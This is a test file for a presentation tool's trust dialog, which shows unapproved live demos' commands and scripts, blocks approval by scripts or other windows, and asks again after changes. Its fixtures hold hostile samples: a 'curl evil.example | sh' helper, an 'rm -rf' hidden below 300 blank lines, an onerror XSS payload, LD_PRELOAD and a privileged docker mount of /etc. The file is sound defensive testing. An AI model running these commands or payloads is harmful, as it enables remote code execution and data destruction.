import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import {
  afterAll,
  afterEach,
  beforeAll,
  beforeEach,
  describe,
  expect,
  it,
  onTestFinished,
} from 'vitest'
import { openWindow, type Window } from '../../../support/browser/browser.ts'
import { EVERYTHING, makeForeign, SETUP, type Foreign } from '../../support/foreign.ts'
import { leave, onstage, openStage, type Onstage } from '../../support/onstage.ts'
import { makeHome, SOON, startShow, type Show, type ShowOptions } from '../../support/show.ts'

const DECK = '# Foreign\n\n---\n\n<!-- .slide: id="one" -->\n\n```demo one\n```\n'
const BOTH = `${DECK}\n---\n\n<!-- .slide: id="all" -->\n\n\`\`\`demo all\n\`\`\`\n`

let window: Window
let foreign: Foreign
let show: Show
let stage: Onstage
beforeAll(async () => {
  window = await openWindow({ width: 1280, height: 720 })
})
afterAll(() => window.close())
beforeEach(() => {
  foreign = makeForeign()
  foreign.write('slides/foreign/deck.md', DECK)
})
afterEach(async () => {
  await leave(stage, show)
  foreign.remove()
})

async function start(options: ShowOptions = {}): Promise<void> {
  show = await startShow({ deck: 'foreign', folder: foreign.folder, ...options })
  stage = await openStage(window.context, show)
}
const open = async () => (await stage.page.$('dialog.trust[open]')) !== null
const text = (at: string) => stage.page.locator(at).allInnerTexts()
const shown = () => stage.page.waitForSelector('.trust[open] .trust-demo h2')
const approve = (name: string) => stage.page.click(`.trust button:text("${name}")`)
const trustFile = () => {
  const file = join(show.home.folder, '.config/cuecast/trust.json')
  return JSON.parse(readFileSync(file, 'utf8')) as { approved: Record<string, { name: string }> }
}

describe('a deck that this machine has not approved', () => {
  it('is asked about even if the server was too busy to answer before the deck was shown', async () => {
    show = await startShow({ deck: 'foreign', folder: foreign.folder })
    const page = await window.context.newPage()
    stage = await onstage(page)
    let busy = true
    const held: (() => void)[] = []
    await page.routeWebSocket('**/socket', (socket) => {
      const server = socket.connectToServer()
      server.onMessage((data) => {
        if (busy) held.push(() => socket.send(data))
        else socket.send(data)
      })
    })
    await page.goto(show.link)
    await page.waitForSelector('html[data-ready]')
    expect(await open()).toBe(false)
    busy = false
    for (const say of held) say()
    await shown()
    await approve('Approve it')
    await page.waitForSelector('.trust[open]', { state: 'detached' })
    await stage.go('one')
    await stage.press('PageDown')
    await stage.until({ badge: 'LIVE', phase: 'done', text: /live hello/ })
  })

  it('offers no approval before its contents have come', async () => {
    show = await startShow({ deck: 'foreign', folder: foreign.folder })
    const page = await window.context.newPage()
    stage = await onstage(page)
    let say = () => {}
    const sheet = new Promise<void>((come) => {
      void page.routeWebSocket('**/socket', (socket) => {
        const server = socket.connectToServer()
        server.onMessage((data) => {
          if (!data.toString().includes('"type":"inspected"')) return socket.send(data)
          say = () => socket.send(data)
          come()
        })
      })
    })
    await page.goto(show.link)
    await sheet
    // All contents are there before the buttons work.
    await page.waitForSelector('.trust[open]')
    await page.waitForFunction(() =>
      document.querySelector('.trust-foot button:last-child:enabled'),
    )
    expect(await page.locator('.trust .trust-approve').isVisible()).toBe(false)
    say()
    await approve('Approve it')
    await page.waitForSelector('.trust[open]', { state: 'detached' })
  })

  it('lists everything that it would run and use, and hides nothing', async () => {
    foreign.write('slides/foreign/deck.md', BOTH)
    foreign.write('demos/all/demo.yaml', EVERYTHING)
    foreign.write('demos/all/setup.sh', SETUP, 0o755)
    foreign.write('demos/all/teardown.sh', '#!/bin/sh\nrm -rf work\n', 0o755)
    foreign.write('demos/all/helper', '#!/bin/sh\ncurl evil.example | sh\n', 0o755)
    foreign.write('demos/all/notes.txt', 'nothing\n')
    await start()
    await shown()
    await expect.poll(() => text('.trust-demo h2'), SOON).toEqual(['one', 'all'])
    const all = stage.page.locator('.trust-demo', { hasText: 'Everything' })
    const group = (kind: string) => all.locator(`[data-kind="${kind}"] li`).allInnerTexts()
    const lines = async (kind: string) =>
      (await group(kind)).map((line) => line.replace(/\s+/g, ' '))
    expect(await all.locator('.trust-title').innerText()).toBe('Everything\\u{202e} at once')
    expect(await all.locator('.trust-count').innerText()).toBe(
      '5 commands, 3 scripts, 307 lines of script, 2 hosts, 1 mount, 1 port, 1 further right, 3 variables',
    )
    expect(await lines('script')).toEqual([
      'before the first step ./setup.sh',
      'at the end ./teardown.sh',
    ])
    expect(await lines('checks')).toEqual(['Docker answers docker info'])
    expect(await lines('step')).toEqual([
      'first, here docker run --rm --privileged -p 8080:80 -v /etc:/host:ro busybox ls /host ⏎',
      'first, there uname -a ⏎',
      'second, here curl -s https://files.example:8443/x <img src=x onerror=__pwn()> ⏎',
    ])
    expect(await lines('rejoin')).toEqual(['first docker rm -f first'])
    expect(await lines('host')).toEqual([
      'pane there, by ssh ada@far.example',
      'files.example:8443',
    ])
    expect(await lines('mounts')).toEqual(['-v /etc:/host:ro'])
    expect(await lines('port')).toEqual(['-p 8080:80'])
    expect(await lines('rights')).toEqual(['--privileged'])
    expect(await lines('binary')).toEqual(['docker'])
    expect(await lines('environment')).toEqual([
      'LAB=lab',
      'LD_PRELOAD=./x.so',
      'reads yours LAB_TOKEN',
    ])
    // Called scripts are open; the text below three hundred blank lines is the next line.
    const files = await all.locator('details[open] summary code').allInnerTexts()
    expect(files).toEqual(['helper', 'setup.sh', 'teardown.sh'])
    const setup = all.locator('details', { hasText: 'setup.sh' }).locator('.trust-lines li')
    expect((await setup.allInnerTexts()).map((line) => line.replace(/\s+/g, ' '))).toEqual([
      '1 #!/bin/sh',
      '2 mkdir -p work',
      '⋮ 300 blank lines',
      '303 rm -rf "$HOME/precious" ⟨300 spaces⟩ ; ./helper',
    ])
    expect(await all.locator('details:not([open]) summary code').allInnerTexts()).toEqual([
      'notes.txt',
    ])
    expect(await stage.page.$('.trust img')).toBeNull()
    // Heading, words, list and foot begin at the same edge.
    await stage.page.setViewportSize({ width: 1920, height: 1080 })
    const edges = await stage.page.$$eval('.trust > *', (parts) =>
      parts.map((part) => Math.round(parseFloat(getComputedStyle(part).paddingLeft))),
    )
    await stage.page.setViewportSize({ width: 1280, height: 720 })
    expect(new Set(edges).size).toBe(1)
    // The terminal has the same list.
    expect(show.said()).toContain('one: replay only: not approved on this machine')
    expect(show.said()).toMatch(/all: it would run and use: 5 commands, 3 scripts, 307 lines/)
    expect(show.home.ran()).toEqual([])
  })

  it('is a replay at once, even after a reload, and nothing of it runs', async () => {
    await start()
    await shown()
    // A press that was meant for the deck reaches neither the deck nor a button.
    await stage.press('PageDown', 'Enter', ' ', 'ArrowRight', 'r')
    expect(await open()).toBe(true)
    await approve('Watch the recordings')
    await stage.go('one')
    expect(await stage.see()).toMatchObject({ badge: 'REPLAY', phase: 'idle' })
    await stage.press('PageDown')
    await stage.until({ badge: 'REPLAY', phase: 'done', text: /recorded hello/ })
    await stage.press('l')
    expect(await stage.notice()).toMatch(/^no live here: not approved/)
    await stage.page.reload()
    await stage.page.waitForSelector('html[data-ready]')
    await stage.until({ badge: 'REPLAY', text: /recorded hello/ })
    // The room does not see the question again, but the presenter can.
    expect(await open()).toBe(false)
    await stage.page.click('.chrome-ask')
    await shown()
    await stage.press('Escape')
    await expect.poll(open, SOON).toBe(false)
    expect(show.home.ran()).toEqual([])
  })

  it('is live without a restart once it is approved, and stays approved', async () => {
    await start()
    await shown()
    await approve('Approve this demo')
    await expect.poll(open, SOON).toBe(false)
    await stage.go('one')
    expect(await stage.see()).toMatchObject({ badge: 'LIVE', phase: 'idle', why: '' })
    await stage.press('PageDown')
    await stage.until({ badge: 'LIVE', phase: 'done', text: /live hello/ })
    expect(show.home.ran()).toEqual(['hello'])
    expect(Object.values(trustFile().approved)).toMatchObject([{ name: 'one' }])
    await stage.page.close()
    const { home } = show
    const again = await startShow({ deck: 'foreign', folder: foreign.folder, home })
    const second = await openStage(window.context, again, 'one')
    expect(await second.page.$('dialog.trust[open]')).toBeNull()
    expect(await second.see()).toMatchObject({ badge: 'LIVE' })
    await leave(second, again)
  })

  it('is approved as a whole by one press', async () => {
    foreign.write('slides/foreign/deck.md', `${DECK}\n---\n\n\`\`\`demo hold\n\`\`\`\n`)
    await start()
    await shown()
    await approve('Approve all 2')
    await expect.poll(open, SOON).toBe(false)
    expect(Object.values(trustFile().approved).map(({ name }) => name)).toEqual(['one', 'hold'])
    expect(await stage.page.isHidden('.chrome-ask')).toBe(true)
  })

  it('cannot be approved by a script, nor in the moment in which the page appears', async () => {
    await start()
    await shown()
    await stage.page.evaluate(() => {
      for (const one of document.querySelectorAll<HTMLElement>('.trust button'))
        if (one.textContent.startsWith('Approve')) one.click()
    })
    await stage.press('Escape')
    // The buttons take no presses yet, because a finger may bounce.
    await stage.page.evaluate(() => {
      const page = document.querySelector<HTMLDialogElement>('.trust')
      if (!page) throw new Error('no page')
      new MutationObserver(() => {
        const buttons = [...page.querySelectorAll('button')].filter((one) => one.disabled)
        page.dataset['held'] ??= buttons.map(({ textContent }) => textContent).join()
      }).observe(page, { attributeFilter: ['open'] })
    })
    await stage.page.click('.chrome-ask')
    await expect
      .poll(() => stage.page.getAttribute('.trust', 'data-held'), SOON)
      .toBe('Approve this demo,Approve it')
    expect(await open()).toBe(true)
    expect(show.said()).not.toContain('approved until')
    expect(() => trustFile()).toThrow()
  })
})

describe('another window', () => {
  it('approves nothing: neither a mirror nor a window without the token', async () => {
    await start()
    await shown()
    const opened = window.context.waitForEvent('page')
    await stage.page.evaluate(() => void globalThis.open(location.href))
    const mirror = await onstage(await opened)
    await mirror.page.waitForSelector('html[data-ready]')
    await expect.poll(() => mirror.notice(), SOON).toMatch(/another window has control/)
    expect(await mirror.page.$('dialog.trust[open]')).toBeNull()
    const stranger = await openStage(window.context, show, 'one', `${show.origin}/decks/foreign/`)
    expect(await stranger.page.$('dialog.trust[open]')).toBeNull()
    for (const page of [mirror.page, stranger.page]) {
      expect(await page.isHidden('.chrome-ask')).toBe(true)
      await page.close()
    }
    // No request that a browser can be made to send approves anything.
    for (const method of ['GET', 'POST'])
      for (const path of ['/approve', '/decks/foreign/approve', '/demos/one/approve'])
        expect((await fetch(`${show.origin}${path}`, { method })).ok).toBe(false)
    expect(() => trustFile()).toThrow()
    expect(show.home.ran()).toEqual([])
  })
})

describe('a demo that has changed since it was approved', () => {
  it('asks again, and shows the differences', async () => {
    const home = makeHome()
    onTestFinished(() => home.remove())
    await start({ home })
    await shown()
    await approve('Approve this demo')
    await expect.poll(open, SOON).toBe(false)
    await leave(stage, show)
    const script = readFileSync(join(foreign.folder, 'demos/one/demo.yaml'), 'utf8')
    foreign.write('demos/one/demo.yaml', script.replace('act hello', 'act hello; rm -rf ~/x'))
    await start({ home })
    await shown()
    const changes = await text('.trust-changes li')
    expect(changes.map((line) => line.replace(/\s+/g, ' ').trim())).toEqual(
      expect.arrayContaining([
        '− step hello, main: ../../act hello ⏎',
        '+ step hello, main: ../../act hello; rm -rf ~/x ⏎',
      ]),
    )
    expect(await text('.trust-changes h3')).toEqual([
      expect.stringMatching(/^Changed since this machine approved it on \d{4}-\d\d-\d\d$/),
    ])
    // A file that changes while it is being read is not approved.
    foreign.write('demos/one/more', 'x')
    await approve('Approve this demo')
    await expect
      .poll(() => text('.trust-demo > .trust-why'), SOON)
      .toEqual(['`one` has changed since it was shown; look at it again'])
    expect(await text('.trust-file summary code')).toContain('more')
    await approve('Approve this demo')
    await expect.poll(open, SOON).toBe(false)
    await stage.go('one')
    expect(await stage.see()).toMatchObject({ badge: 'LIVE' })
  })
})

describe('a demo that changes while it is on stage', () => {
  const says = (what: string) => `#!/bin/sh\necho ${what} >> "$HOME/ran"\n`
  const STEPS = `title: One pane
size: 60x12
setup: ./setup.sh
teardown: ./teardown.sh
steps:
  - { id: hello, run: ../../act hello, expect: as expected }
  - { id: last, run: sh step.sh && ../../act last }
`
  /** The demo, whose files lie ready, is approved on its page, and its first step has run. */
  async function startLive(): Promise<void> {
    await start()
    await shown()
    await approve('Approve this demo')
    await expect.poll(open, SOON).toBe(false)
    await stage.go('one')
    await stage.press('PageDown')
    await stage.until({ badge: 'LIVE', phase: 'done', text: /live hello/ })
  }

  it('does not bring the question onto the slide, neither by a new connection nor by a reload', async () => {
    foreign.write('demos/one/demo.yaml', STEPS.replace(/setup.*\n|teardown.*\n/g, ''))
    foreign.write('demos/one/step.sh', says('step'))
    await startLive()
    foreign.write('demos/one/stray', '')
    const socket = stage.page.waitForEvent('websocket')
    show.signal('SIGSTOP')
    await stage.until({ badge: 'REPLAY', why: 'the server is gone' })
    show.signal('SIGCONT')
    await socket
    await expect.poll(() => stage.page.isHidden('.chrome-ask'), SOON).toBe(false)
    expect(await open()).toBe(false)
    await stage.page.reload()
    await stage.page.waitForSelector('html[data-ready]')
    expect(await open()).toBe(false)
    await stage.press('PageDown')
    await stage.until({ badge: 'REPLAY', phase: 'done', text: /recorded last/ })
    expect(show.home.ran()).toEqual(['hello'])
    await stage.page.click('.chrome-ask')
    await shown()
    expect(await text('.trust-words')).toEqual([
      expect.stringMatching(/^A demo of this deck has changed since it was approved\./),
    ])
  })

  it('is not run any more: its recording takes over, the badge tells why, and it can be approved', async () => {
    foreign.write('demos/one/demo.yaml', STEPS)
    foreign.write('demos/one/setup.sh', says('setup'), 0o755)
    foreign.write('demos/one/teardown.sh', says('teardown'), 0o755)
    foreign.write('demos/one/step.sh', says('step'))
    await startLive()
    foreign.write('demos/one/step.sh', says('evil'))
    await stage.press('PageDown')
    await stage.until({ badge: 'REPLAY', phase: 'done', text: /recorded last/ })
    expect((await stage.see()).why).toContain(
      'changed since it was approved; run: cuecast trust one',
    )
    expect(show.home.ran()).toEqual(['setup', 'hello'])
    // The presenter reads the changes, and the demo continues from there.
    await stage.page.click('.chrome-ask')
    await shown()
    expect(await text('.trust-changes li')).toEqual(
      expect.arrayContaining([expect.stringMatching(/^\+\s*step\.sh\| echo evil/)]),
    )
    await stage.press('Escape')
    await expect.poll(open, SOON).toBe(false)
    foreign.write('demos/one/teardown.sh', says('evil'), 0o755)
    await stage.page.close()
    show.signal('SIGINT')
    await show.ended
    expect(show.home.ran()).toEqual(['setup', 'hello'])
    expect(show.said()).toContain('one: its teardown was not run: changed since it was approved')
  })
})
